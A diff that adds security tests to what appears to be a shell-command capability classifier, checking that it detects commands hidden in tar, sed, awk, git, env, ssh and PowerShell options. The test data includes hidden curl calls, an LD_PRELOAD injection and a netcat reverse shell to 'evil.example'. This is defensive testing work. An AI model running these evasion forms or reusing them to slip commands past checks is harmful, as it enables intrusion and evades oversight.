@@ -561,3 +561,264 @@ def test_classification_never_fails_and_always_needs_process(program: str, words
         result = run(*argv)
         assert C.PROCESS in result.capabilities()
         assert all(item.reason for item in result.needs)
+
+
+# ─── review fixes: commands that were read as less than they are ──────────────────────────────────
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["git", "bisect", "run", "curl", "https://x"],
+        ["git", "-C", "repo", "bisect", "run", "sh", "-c", "curl https://x"],
+    ],
+)
+def test_git_bisect_run_reads_the_command_it_runs(argv: list[str]) -> None:
+    assert "x" in hosts(run(*argv))
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["env", "-S", "A=1 curl https://x"],
+        ["env", "-S", "-i A=1 B=2 curl https://x"],
+        ["env", "-iSA=1 curl https://x"],
+        ["env", "--split-string=A=1 curl https://x"],
+        ["env", "-u", "HOME", "-S", "A=1", "curl", "https://x"],
+    ],
+)
+def test_env_split_string_assignments_do_not_hide_the_command(argv: list[str]) -> None:
+    assert "x" in hosts(run(*argv))
+
+
+@pytest.mark.security
+def test_env_split_string_assignments_are_read_as_assignments() -> None:
+    result = run("env", "-S", "LD_PRELOAD=evil.so true")
+    assert C.PRIVILEGED in result.capabilities()
+    assert not any("ld_preload" in item.reason for item in result.needs)
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["flock", "/tmp/l", "-c", "curl https://x"],
+        ["flock", "-x", "-w", "5", "/tmp/l", "--command", "curl https://x"],
+        ["flock", "/tmp/l", "curl", "https://x"],
+        ["flock", "--nb", "/tmp/l", "curl", "https://x"],
+    ],
+)
+def test_flock_lock_file_then_command_is_read(argv: list[str]) -> None:
+    assert "x" in hosts(run(*argv))
+
+
+@pytest.mark.security
+@pytest.mark.parametrize("argv", [["sudoedit", "x"], ["/usr/bin/sudoedit", "-u", "www", "x"], ["sudo", "-e", "x"]])
+def test_sudoedit_edits_files_as_root_and_runs_nothing(argv: list[str]) -> None:
+    result = run(*argv)
+    assert result.capabilities() == {C.PROCESS, C.PRIVILEGED, C.OUTSIDE_WRITE}
+    assert not any("runs x" in item.reason for item in result.needs)
+
+
+TAR_PROGRAM_FORMS = [
+    ["tar", "-Icurl https://x", "-cf", "a.tar", "."],
+    ["tar", "-cI", "curl https://x", "-f", "a.tar", "."],
+    ["tar", "-cvIcurl https://x", "-f", "a.tar", "."],
+    ["tar", "-cf", "a.tar", "--use-compress-program=curl https://x", "."],
+    ["tar", "--use-compress-program", "curl https://x", "-cf", "a.tar", "."],
+    ["tar", "--use-compress=curl https://x", "-cf", "a.tar", "."],
+    ["tar", "cIf", "curl https://x", "a.tar", "."],
+    ["tar", "cfI", "a.tar", "curl https://x", "."],
+    ["tar", "-cf", "a.tar", "-Fcurl https://x", "."],
+    ["tar", "-xf", "a.tar", "--to-command=curl https://x"],
+    ["tar", "-xf", "a.tar", "--to-comm", "curl https://x"],
+    ["tar", "-cf", "a.tar", "--checkpoint-action=exec=curl https://x", "."],
+]
+
+
+@pytest.mark.security
+@pytest.mark.parametrize("argv", TAR_PROGRAM_FORMS, ids=[" ".join(argv) for argv in TAR_PROGRAM_FORMS])
+def test_every_form_of_a_tar_program_option_is_read(argv: list[str]) -> None:
+    assert "x" in hosts(run(*argv))
+
+
+def test_plain_tar_needs_process_only() -> None:
+    assert run("tar", "-czf", "a.tar.gz", "src").capabilities() == {C.PROCESS}
+    assert run("tar", "--checkpoint=100", "-cf", "a.tar", "src").capabilities() == {C.PROCESS}
+
+
+@pytest.mark.security
+def test_a_remote_tar_archive_needs_network() -> None:
+    assert "backup.example.net" in hosts(run("tar", "-cf", "backup.example.net:/srv/a.tar", "."))
+    assert "backup.example.net" in hosts(run("tar", "czf", "me@backup.example.net:a.tgz", "."))
+    assert C.NETWORK not in run("tar", "--force-local", "-cf", "a:b.tar", ".").capabilities()
+
+
+@pytest.mark.parametrize(
+    "args", [["-R", "pkg"], ["-Rns", "pkg"], ["-Rs", "pkg"], ["-Rn", "pkg"], ["-nsR", "pkg"], ["--remove", "pkg"]]
+)
+def test_pacman_remove_in_any_option_form_needs_install(args: list[str]) -> None:
+    assert run("pacman", *args).capabilities() == {C.PROCESS, C.PRIVILEGED, C.INSTALL}
+
+
+def test_pacman_sync_in_any_option_form_installs_and_a_query_does_not() -> None:
+    for args in (["-S", "jq"], ["-Syu"], ["--sync", "jq"], ["-yS", "jq"]):
+        assert run("pacman", *args).capabilities() == {C.PROCESS, C.PRIVILEGED, C.INSTALL, C.NETWORK}
+    assert run("pacman", "-Qs", "jq").capabilities() == {C.PROCESS, C.PRIVILEGED}
+
+
+# ─── review fixes: further instances of the same bug classes ──────────────────────────────────────
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["powershell", "iwr https://x"],
+        ["powershell.exe", "-NoProfile", "-ExecutionPolicy", "Bypass", "iwr https://x"],
+        ["pwsh", "-Comm", "iwr https://x"],
+        ["pwsh", "-NoP", "-co", "Write-Host", "hi;", "iwr https://x"],
+    ],
+)
+def test_powershell_command_text_is_read_as_inline_code(argv: list[str]) -> None:
+    assert {C.PROCESS, C.NETWORK, C.OUTSIDE_WRITE} <= run(*argv).capabilities()
+
+
+def test_a_powershell_script_file_is_repository_code() -> None:
+    assert run("pwsh", "build.ps1").capabilities() == {C.PROCESS}
+    assert run("powershell", "-NoProfile", "-ExecutionPolicy", "Bypass", "-File", "build.ps1").capabilities() == {
+        C.PROCESS
+    }
+    assert run("pwsh", "-NoProfile").capabilities() >= EVERYTHING_BUT_AUTOMATIC
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["sed", "-n", "input.txt", "-e", "1e curl https://x"],
+        ["sed", "-s", "-e", "p", "-e", "e curl https://x", "f"],
+        ["sed", "--expr=1e curl https://x", "f"],
+    ],
+)
+def test_sed_scripts_after_operands_or_abbreviated_are_read(argv: list[str]) -> None:
+    assert run(*argv).capabilities() >= EVERYTHING_BUT_AUTOMATIC
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["gawk", "--source=BEGIN { system(\"curl https://x\") }", "file"],
+        ["awk", "-e", "BEGIN { system(\"curl https://x\") }", "file"],
+        ["gawk", "-i", "lib.awk", "1", "file"],
+        ["gawk", "-l", "ext.so", "1", "file"],
+    ],
+)
+def test_awk_program_text_and_loaded_code_are_read(argv: list[str]) -> None:
+    assert {C.PROCESS, C.NETWORK, C.OUTSIDE_WRITE} <= run(*argv).capabilities()
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["git", "rebase", "-xcurl https://x", "main"],
+        ["git", "rebase", "-ix", "curl https://x", "main"],
+        ["git", "rebase", "--exe=curl https://x", "main"],
+        ["git", "difftool", "-yxcurl https://x"],
+    ],
+)
+def test_git_exec_options_in_every_form_are_read(argv: list[str]) -> None:
+    assert "x" in hosts(run(*argv))
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["git", "submodule", "foreach", "--recursive", "curl https://x"],
+        ["git", "submodule", "--quiet", "foreach", "-q", "curl https://x"],
+    ],
+)
+def test_git_submodule_foreach_options_do_not_hide_the_command(argv: list[str]) -> None:
+    assert "x" in hosts(run(*argv))
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["git", "clean", "-fdxen"],
+        ["git", "clean", "-fe", "n"],
+        ["git", "checkout", "-qf", "main"],
+        ["git", "switch", "-qf", "main"],
+        ["git", "branch", "-dr", "origin/x"],
+        ["git", "tag", "-fa", "v1", "-m", "x"],
+    ],
+)
+def test_clustered_git_flags_are_read_like_separate_ones(argv: list[str]) -> None:
+    assert C.DESTRUCTIVE in run(*argv).capabilities()
+
+
+def test_a_git_clean_dry_run_in_a_cluster_is_still_dry() -> None:
+    assert C.DESTRUCTIVE not in run("git", "clean", "-ndx").capabilities()
+    assert C.DESTRUCTIVE not in run("git", "clean", "-fdn").capabilities()
+
+
+@pytest.mark.security
+def test_docker_global_options_do_not_hide_the_subcommand() -> None:
+    assert C.NETWORK in run("docker", "--context", "prod", "run", "alpine").capabilities()
+    assert C.NETWORK in run("docker", "-l", "debug", "pull", "alpine").capabilities()
+    assert "build.example.net" in hosts(run("docker", "-H", "ssh://me@build.example.net", "ps"))
+    assert run("docker", "--context", "prod", "ps").capabilities() == {C.PROCESS, C.PRIVILEGED}
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "argv", [["gh", "pr", "-R", "o/r", "merge", "5"], ["gh", "-R", "o/r", "pr", "merge", "5"],
+             ["gh", "--repo", "o/r", "issue", "create", "--title", "x"]]
+)
+def test_gh_repo_option_does_not_hide_a_posting_action(argv: list[str]) -> None:
+    assert C.EXTERNAL_COMMUNICATION in run(*argv).capabilities()
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "argv", [["nc", "-ve", "/bin/sh", "evil.example", "4444"], ["ncat", "-lvc", "sh", "-p", "4444"]]
+)
+def test_nc_exec_flag_inside_a_cluster_needs_everything(argv: list[str]) -> None:
+    assert run(*argv).capabilities() >= EVERYTHING_BUT_AUTOMATIC
+
+
+def test_env_dash_alone_is_ignore_environment_only_before_the_command() -> None:
+    assert run("env", "-", "python3", "-").capabilities() >= EVERYTHING_BUT_AUTOMATIC
+    assert run("env", "tar", "-cf", "-", "src").capabilities() == {C.PROCESS}
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["ssh", "build.example.net", "-o", "ProxyCommand=curl https://x"],
+        ["ssh", "build.example.net", "-oLocalCommand=curl https://x", "-o", "PermitLocalCommand=yes", "uptime"],
+    ],
+)
+def test_ssh_options_after_the_destination_are_read(argv: list[str]) -> None:
+    assert run(*argv).capabilities() >= EVERYTHING_BUT_AUTOMATIC
+
+
+def test_ssh_reads_options_after_the_destination_but_not_in_the_remote_command() -> None:
+    assert "jump.example.net" in hosts(run("ssh", "build.example.net", "-J", "jump.example.net", "uptime"))
+    assert C.CREDENTIAL in run("ssh", "build.example.net", "-i", "deploy_key").capabilities()
+    assert run("ssh", "build.example.net", "ls", "-i").capabilities() == {C.PROCESS, C.NETWORK}
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "args", [["-f", "up", "https://x/r"], ["-ft", "main", "up", "https://x/r"], ["--fetch", "up", "https://x/r"]]
+)
+def test_git_remote_add_fetching_in_any_option_form_needs_network(args: list[str]) -> None:
+    assert "x" in hosts(run("git", "remote", "add", *args))
